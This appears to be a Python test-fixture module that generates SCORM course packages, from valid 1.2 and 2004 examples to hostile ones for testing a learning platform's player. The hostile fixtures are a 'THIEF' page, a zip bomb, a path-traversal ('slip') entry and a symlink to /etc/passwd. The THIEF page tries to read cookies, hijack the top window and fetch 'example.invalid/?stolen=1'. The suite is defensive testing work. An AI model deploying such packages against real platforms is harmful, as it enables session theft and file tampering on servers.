"""SCORM packages in the shapes found in the field, made here byte by byte: good ones, old ones, hostile ones."""

from __future__ import annotations

import io
import stat
import zipfile
from dataclasses import dataclass, field

NS12 = 'xmlns="http://www.imsproject.org/xsd/imscp_rootv1p1p2" xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_rootv1p2"'
NS2004 = (
    'xmlns="http://www.imsglobal.org/xsd/imscp_v1p1" xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_v1p3" '
    'xmlns:imsss="http://www.imsglobal.org/xsd/imsss" xmlns:adlseq="http://www.adlnet.org/xsd/adlseq_v1p3"'
)

# As the sample content of the standard's authors looks for its system: in the parent first, never in its own window.
FIND = """
function scan(win, name) { var n = 0;
  while (win[name] == null && win.parent != null && win.parent != win && n++ < 500) win = win.parent;
  return win[name]; }
function find(name) { var found = null;
  if (window.parent && window.parent != window) found = scan(window.parent, name);
  if (found == null && window.top.opener != null) found = scan(window.top.opener, name);
  return found; }
"""

BASIC12 = (
    "<!DOCTYPE html><html><head><title>SCO</title><script>"
    + FIND
    + """
var API = find("API"), page = 1, ended = false;
function start() {
  API.LMSInitialize("");
  if (API.LMSGetValue("cmi.core.lesson_status") == "not attempted") API.LMSSetValue("cmi.core.lesson_status", "incomplete");
  page = Number(API.LMSGetValue("cmi.core.lesson_location") || 1);
  document.getElementById("entry").textContent = API.LMSGetValue("cmi.core.entry");
  document.getElementById("learner").textContent = API.LMSGetValue("cmi.core.student_name");
  document.getElementById("kept").textContent = API.LMSGetValue("cmi.suspend_data");
  show();
}
function show() { document.getElementById("page").textContent = "page " + page; }
function next() { page += 1; show(); API.LMSSetValue("cmi.core.lesson_location", String(page));
  API.LMSSetValue("cmi.suspend_data", "seen:" + page); }
function done() { API.LMSSetValue("cmi.core.lesson_status", "completed"); API.LMSSetValue("cmi.core.score.raw", "85");
  API.LMSCommit(""); }
function bye() { if (ended) return; ended = true; API.LMSSetValue("cmi.core.session_time", "00:10:00");
  API.LMSSetValue("cmi.core.exit", "suspend"); API.LMSFinish(""); }
window.onunload = bye;
</script></head><body onload="start()"><p id="page"></p><p id="entry"></p><p id="learner"></p><p id="kept"></p>
<button id="next" onclick="next()">next</button><button id="done" onclick="done()">done</button>
<button id="bye" onclick="bye()">bye</button></body></html>"""
)

MINIMUM12 = (
    "<html><head><script>"
    + FIND
    + """
var API = find("API");
window.onload = function () { document.getElementById("began").textContent = API.LMSInitialize(""); };
function bye() { document.getElementById("ended").textContent = API.LMSFinish(""); }
</script></head><body><p>minimum</p><p id="began"></p><p id="ended"></p><button id="bye" onclick="bye()">bye</button></body></html>"""
)

BASIC2004 = (
    "<!DOCTYPE html><html><head><script>"
    + FIND
    + """
var API = find("API_1484_11"), ended = false;
function start() {
  API.Initialize("");
  document.getElementById("entry").textContent = API.GetValue("cmi.entry");
  document.getElementById("page").textContent = "page " + (API.GetValue("cmi.location") || 1);
  document.getElementById("kept").textContent = API.GetValue("cmi.suspend_data");
  document.getElementById("passing").textContent = API.GetValue("cmi.scaled_passing_score");
}
function next() { API.SetValue("cmi.location", "2"); API.SetValue("cmi.suspend_data", "资料"); API.SetValue("cmi.exit", "suspend");
  document.getElementById("page").textContent = "page 2"; }
function done() { API.SetValue("cmi.completion_status", "completed"); API.SetValue("cmi.success_status", "passed");
  API.SetValue("cmi.score.scaled", "0.9"); API.SetValue("cmi.exit", "normal"); API.SetValue("adl.nav.request", "continue");
  ended = true; API.Terminate(""); }
window.onbeforeunload = window.onunload = function () { if (!ended) { ended = true; API.Terminate(""); } };
</script></head><body onload="start()"><p id="page"></p><p id="entry"></p><p id="kept"></p><p id="passing"></p>
<button id="next" onclick="next()">next</button><button id="done" onclick="done()">done</button></body></html>"""
)

# A launch page that holds the run-time and shows its pages in a frame; they call it, and read and set its variables.
FRAMES = {
    "shared/launch.html": "<!DOCTYPE html><html><head><script src='api.js'></script><script>var score = 0, title = '考试';"
    "var API = find('API');"
    "function RecordTest(value) { score = value; API.LMSSetValue('cmi.core.score.raw', String(value));"
    "API.LMSSetValue('cmi.core.lesson_status', value >= 60 ? 'passed' : 'failed'); API.LMSCommit('');"
    "document.getElementById('score').textContent = 'score ' + value; }</script></head>"
    "<body onload=\"API.LMSInitialize('')\"><p id='score'></p>"
    "<iframe id='content' src='../pages/test.html?content=1' width='300' height='200'></iframe></body></html>",
    "shared/api.js": FIND,
    "pages/test.html": "<html><body><p id='title'></p><p id='learner'></p>"
    "<button id='hand-in' onclick='parent.RecordTest(75)'>hand in</button><script>"
    "function fill() { document.getElementById('title').textContent = parent.title;"
    "document.getElementById('learner').textContent = parent.API.LMSGetValue('cmi.core.student_name'); }"
    "setInterval(fill, 100);</script></body></html>",
}

# Frames that reach each other as pages of one site do: by parent, by name, by what a function gives back.
FRAMESET = {
    "index.html": "<html><head><title>SCO</title><script src='api.js'></script><script>var API = null, visited = [];"
    "function init() { API = find('API'); API.LMSInitialize(''); } function getAPI() { return API; }"
    "function next(name) { visited.push(name); API.LMSSetValue('cmi.suspend_data', visited.join()); return visited.length; }"
    "</script></head><frameset rows='80,*' onload='init()'><frame name='menu' src='menu.html'><frame name='content' src='content.html'>"
    "</frameset></html>",
    "api.js": FIND,
    "menu.html": "<html><body><p id='learner'></p><p id='count'></p><p id='text'></p><button id='go' onclick='go()'>go</button>"
    "<a id='second' href='second.html' target='content'>second</a><script>function go() {"
    "document.getElementById('learner').textContent = parent.getAPI().LMSGetValue('cmi.core.student_id');"
    "document.getElementById('text').textContent = parent.frames['content'].question('剪');"
    "document.getElementById('count').textContent = parent.next('a') + parent.frames.content.document.title; }</script></body></html>",
    "content.html": "<html><head><title>内容</title></head><body><script>function question(word) { return word + '枝'; }</script>"
    "<iframe name='deep' src='deep.html'></iframe></body></html>",
    "second.html": "<html><body><p id='second'>second page</p></body></html>",
    "deep.html": "<html><body><p id='deep'></p><button id='ask' onclick='ask()'>ask</button><script>function ask() {"
    "document.getElementById('deep').textContent = parent.parent.getAPI().LMSSetValue('cmi.core.lesson_location', '7') +"
    " parent.parent.getAPI().LMSGetValue('cmi.core.lesson_location'); }</script></body></html>",
}

# A menu that sends the frame beside it from page to page by script, in each of the ways that are in the field.
BESIDE = {
    "index.html": "<html><head><title>SCO</title><script src='api.js'></script><script>var status2 = 'mine';"
    "var API = find('API'); API.LMSInitialize('');</script></head>"
    "<frameset cols='200,*'><frame name='menu' src='menu.html'><frame name='content' src='pages/first.html'></frameset></html>",
    "api.js": FIND,
    "menu.html": "<html><body><p id='said'></p><script>"
    "var ways = {"
    "assigned: function () { parent.content.location = 'pages/one.html'; },"
    "href: function () { parent.frames['content'].location.href = 'pages/two.html'; },"
    "replaced: function () { top.content.location.replace('pages/three.html'); },"
    "method: function () { window.parent.frames.content.document.location; parent.content.location.assign('pages/four.html'); },"
    "reloaded: function () { parent.content.location.reload(); } };"
    "function read() { var page = parent.content; return [page.document.title, page.answer(20), page.secret,"
    " String(page.location).split('/').pop(), page.location.pathname.slice(-8), page.parent === parent, page.name,"
    " typeof page.setTimeout(function () {}, 0), 'answer' in page, page.Array === parent.content.Array].join(); }"
    "function write() { parent.content.secret = 'written'; return parent.content.secret; }"
    "</script></body></html>",
    **{
        f"pages/{name}.html": f"<html><head><title>{name}</title></head><body><p id='{name}'>{name}</p><script>"
        "var secret = 'kept'; function answer(n) { return n + 1; }</script></body></html>"
        for name in ("first", "one", "two", "three", "four")
    },
}

# A page that has a word of its own which is a frame's name too.
TWO_WORDS = {
    "index.html": "<html><head><title>SCO</title><script>function look() { document.getElementById('said').textContent ="
    " [typeof content, typeof late, content, late].join(); }</script></head><body><p id='said'></p>"
    "<iframe name='content' src='inner.html'></iframe><iframe name='late' src='inner.html'></iframe>"
    "<script>var content = 5; var late; late = 'text'; look();</script></body></html>",
    "inner.html": "<html><body>inner</body></html>",
}

# A part that takes it for granted that its system is the window at the top.
TOP = {
    "index.html": "<html><head><script src='top.js'></script></head><body onload='begin()'><p id='began'></p>"
    "<iframe id='inner' src='inner.html'></iframe></body></html>",
    "top.js": "function begin() { if (window.top == window) return; var held = top.API;"
    "document.getElementById('began').textContent = held.LMSInitialize('') + top.API.LMSGetValue('cmi.core.lesson_status'); }",
    "inner.html": "<html><body><p id='said'></p><button id='done' onclick=\"said(top.API.LMSSetValue('cmi.core.lesson_status', 'passed'))\">"
    "done</button><script>function said(word) { document.getElementById('said').textContent = word + window.top.API.LMSCommit(''); }"
    "</script></body></html>",
}

# A launch page that plays in a window of its own, which finds the run-time through its opener and closes itself.
OPENER = {
    "index.html": "<html><head><script>"
    + FIND
    + "var API = find('API'), player = null; function launch() { API.LMSInitialize('');"
    "player = window.open('player.html', 'player', 'width=800,height=600'); setInterval(function () {"
    "document.getElementById('state').textContent = player.closed ? 'closed' : 'open'; }, 100); }"
    "function heard(word) { document.getElementById('heard').textContent = word; return word.length; }"
    "</script></head><body><button id='launch' onclick='launch()'>launch</button><p id='state'></p><p id='heard'></p></body></html>",
    "player.html": "<html><body><p id='length'></p><button id='work' onclick='work()'>work</button><button id='end' onclick='end()'>end</button>"
    "<script>function work() { document.getElementById('length').textContent = window.opener.heard('听见');"
    "window.opener.API.LMSSetValue('cmi.core.score.raw', '91'); window.opener.API.LMSSetValue('cmi.core.lesson_status', 'passed'); }"
    "function end() { window.opener.API.LMSFinish(''); window.close(); }</script></body></html>",
}

# A page that calls into the frame below it and reads its document.
BELOW = {
    "index.html": "<html><head><script>"
    + FIND
    + "var API = find('API'); API.LMSInitialize(''); function ask() { var inner = document.getElementById('inner').contentWindow;"
    "document.getElementById('sum').textContent = inner.add(2, 3) + ' ' + inner.document.getElementById('word').innerHTML;"
    "inner.state = { answers: [1, 2] }; API.LMSSetValue('cmi.suspend_data', inner.tell()); }</script></head><body>"
    "<iframe id='inner' name='inner' src='inner.html'></iframe><p id='sum'></p><button id='ask' onclick='ask()'>ask</button></body></html>",
    "inner.html": "<html><body><p id='word'>词</p><script>var state = null; function add(a, b) { return a + b; }"
    "function tell() { return 'n=' + state.answers.length; }</script></body></html>",
}

QUIET = "<html><head><script>" + FIND + "var API = find('{name}');</script></head><body>quiet</body></html>"
"""A part that does nothing of itself: a test calls its run-time."""

# What a hostile package would try; it writes down what it got.
THIEF = """<html><head><title>thief</title></head><body><pre id="loot"></pre><script>
var loot = {}, outside = window["t" + "op"]; // the word itself is given another meaning
function take(name, how) { try { loot[name] = String(how()); } catch (error) { loot[name] = "refused"; } }
take("cookie", function () { return document.cookie; });
take("top-cookie", function () { return outside.document.cookie; });
take("top-title", function () { return outside.document.title; });
take("cookie-below", function () { return Object.getOwnPropertyDescriptor(Document.prototype, "cookie").get.call(document); });
take("ancestor", function () { return window.frameElement ? window.frameElement.ownerDocument.title : "none"; });
take("origin", function () { return window.origin; });
take("navigate", function () { outside.location.href = "/stolen/"; return "went"; });
function tell() { document.getElementById("loot").textContent = JSON.stringify(loot); }
function reach(name, url, options) { fetch(url, options).then(function (answer) { return answer.text(); })
  .then(function (text) { loot[name] = "got " + text.length; tell(); }, function () { loot[name] = "refused"; tell(); }); }
reach("learn", "/learn/", { credentials: "include" });
reach("home", location.protocol + "//127.0.0.1:" + location.port + "/learn/", { credentials: "include" });
reach("own-root", location.origin + "/learn/", { credentials: "include" });
try { navigator.serviceWorker.register("worker.js").then(function () { loot.worker = "got"; tell(); }, function () { loot.worker = "refused"; tell(); }); }
catch (error) { loot.worker = "refused"; }
reach("beat", "/play/beat/", { method: "POST", body: "{}" });
reach("abroad", "http://example.invalid/?stolen=1", { mode: "no-cors" });
tell();
</script></body></html>"""


@dataclass
class Package:
    """Files by name, as a zip is made of them; ``above``: a folder around everything."""

    files: dict[str, bytes | str] = field(default_factory=dict)
    above: str = ""
    encoding: str = ""

    def zip(self) -> bytes:
        """The archive; with ``encoding`` the names are written in it, as old Chinese tools do."""
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, content in self.files.items():
                raw = content.encode() if isinstance(content, str) else content
                archive.writestr(entry(self.above + name, self.encoding), raw, zipfile.ZIP_DEFLATED)
        return out.getvalue()


class _InEncoding(zipfile.ZipInfo):
    """A name written in bytes of its own, without the mark of UTF-8."""

    encoding = ""

    def _encodeFilenameFlags(self) -> tuple[bytes, int]:
        return self.filename.encode(self.encoding), self.flag_bits & ~0x800


def entry(name: str, encoding: str = "") -> zipfile.ZipInfo:
    """A directory entry under that name."""
    if not encoding:
        return zipfile.ZipInfo(name)
    info = _InEncoding(name)
    info.encoding = encoding
    return info


def manifest(body: str, *, version: str = "1.2", declared: str = "UTF-8") -> str:
    """A manifest around organisations and resources."""
    names = NS12 if version == "1.2" else NS2004
    return (
        f'<?xml version="1.0" encoding="{declared}"?><manifest identifier="M" version="1" {names}>'
        f"<metadata><schema>ADL SCORM</schema><schemaversion>{version}</schemaversion></metadata>{body}</manifest>"
    )


def resource(identifier: str, href: str, kind: str = "sco", name: str = "scormtype", base: str = "") -> str:
    """A resource with its one file."""
    return (
        f'<resource identifier="{identifier}" type="webcontent" adlcp:{name}="{kind}" href="{href}" {base}>'
        f'<file href="{href}"/></resource>'
    )


def single12(page: str = BASIC12, *, title: str = "葡萄冬季修剪", href: str = "index.html") -> Package:
    """SCORM 1.2 with one part."""
    body = (
        f'<organizations default="O"><organization identifier="O"><title>{title}</title>'
        f'<item identifier="I1" identifierref="R1"><title>{title}</title><adlcp:masteryscore>60</adlcp:masteryscore></item>'
        f"</organization></organizations><resources>{resource('R1', href)}</resources>"
    )
    return Package({"imsmanifest.xml": manifest(body), href.partition("?")[0]: page})


def multi12() -> Package:
    """SCORM 1.2 with a heading over two parts: minimum and basic run-time calls, with parameters and ``xml:base``."""
    body = (
        '<organizations default="O"><organization identifier="O"><title>果树病虫害</title>'
        '<item identifier="C1"><title>第一章</title>'
        '<item identifier="I1" identifierref="R1"><title>认识霜霉病</title></item>'
        '<item identifier="I2" identifierref="R2" parameters="?mode=a&amp;x=1"><title>用药与间隔期</title></item></item>'
        '<item identifier="I3" identifierref="R1" isvisible="false"><title>hidden</title></item>'
        '</organization></organizations><resources xml:base="content/">'
        + resource("R1", "one.html")
        + resource("R2", "two.html", base='xml:base="deep/"')
        + "</resources>"
    )
    return Package({"imsmanifest.xml": manifest(body), "content/one.html": MINIMUM12, "content/deep/two.html": BASIC12})


def frames12() -> Package:
    """SCORM 1.2 whose launch page shows its pages in a frame of its own."""
    package = single12(href="shared/launch.html")
    package.files |= FRAMES
    return package


def of_files(files: dict[str, str]) -> Package:
    """SCORM 1.2 whose part begins at ``index.html`` among other files."""
    package = single12()
    package.files |= files
    return package


def quiet(version: str) -> Package:
    """``1.2`` or ``2004``: one part that waits to be called."""
    if version == "1.2":
        return single12(QUIET.replace("{name}", "API"))
    package = basic2004("2004 4th Edition")
    package.files["a.html"] = QUIET.replace("{name}", "API_1484_11")
    return package


def basic2004(edition: str) -> Package:
    """SCORM 2004 (``2004 3rd Edition``, ``2004 4th Edition``) with two parts and sequencing."""
    sequencing = (
        '<imsss:sequencing><imsss:controlMode choice="false" flow="true"/><imsss:objectives>'
        '<imsss:primaryObjective objectiveID="P" satisfiedByMeasure="true">'
        "<imsss:minNormalizedMeasure>0.8</imsss:minNormalizedMeasure></imsss:primaryObjective></imsss:objectives>"
        "<imsss:rollupRules rollupObjectiveSatisfied='true'/></imsss:sequencing>"
    )
    fourth = (
        "<adlcp:completionThreshold completedByMeasure='true' minProgressMeasure='1.0'/>" if "4th" in edition else ""
    )
    body = (
        '<organizations default="O"><organization identifier="O" adlseq:objectivesGlobalToSystem="false"><title>蜜蜂饲养</title>'
        f'<item identifier="I1" identifierref="R1"><title>蜂箱</title>{fourth}{sequencing}</item>'
        f'<item identifier="I2" identifierref="R2"><title>分蜂</title>{sequencing}</item>'
        '<imsss:sequencing><imsss:controlMode flow="true"/></imsss:sequencing></organization></organizations><resources>'
        + resource("R1", "a.html", name="scormType")
        + resource("R2", "b.html", name="scormType")
        + "</resources>"
    )
    return Package({"imsmanifest.xml": manifest(body, version=edition), "a.html": BASIC2004, "b.html": BASIC2004})


def thief12() -> Package:
    """SCORM 1.2 that tries to get what is not its own."""
    package = single12(THIEF)
    package.files["worker.js"] = "self.onfetch = function () {};"
    return package


def without_organisation() -> Package:
    """A manifest with resources and no contents."""
    body = (
        "<organizations/><resources>"
        + resource("A1", "pic.png", "asset")
        + resource("R1", "start.htm")
        + "</resources>"
    )
    return Package({"imsmanifest.xml": manifest(body), "start.htm": BASIC12, "pic.png": b"\x89PNG\r\n\x1a\n0000"})


def gbk_names() -> Package:
    """Names, manifest and page in GBK, as an old authoring tool on Chinese Windows makes them."""
    body = (
        '<organizations default="O"><organization identifier="O"><title>水稻育秧</title>'
        '<item identifier="I1" identifierref="R1"><title>育秧</title></item></organization></organizations>'
        "<resources>" + resource("R1", "课件\\首页.html") + "</resources>"
    )
    page = BASIC12.replace("<head>", "<head><meta http-equiv='Content-Type' content='text/html; charset=gb2312'>")
    page = page.replace("<body", "<!-- 育秧 --><body").replace(
        '<p id="page">', '<p id="text">水稻育秧</p><img src="图片/秧苗.png"><p id="page">'
    )
    return Package(
        {
            "imsmanifest.xml": manifest(body, declared="GB2312").encode("gb18030"),
            "课件/首页.html": page.encode("gb18030"),
            "课件/图片/秧苗.png": b"\x89PNG\r\n\x1a\n0000",
        },
        encoding="gbk",
    )


def bomb() -> bytes:
    """Half a kilobyte for each megabyte."""
    package = single12()
    package.files["zeros.bin"] = bytes(20 * 1024 * 1024)
    return package.zip()


def slip(name: str) -> bytes:
    """A file that would be written elsewhere."""
    package = single12()
    package.files[name] = "owned"
    return package.zip()


def link() -> bytes:
    """A symbolic link to the password file."""
    out = io.BytesIO(single12().zip())
    info = zipfile.ZipInfo("passwd")
    info.create_system, info.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(info, "/etc/passwd")
    return out.getvalue()
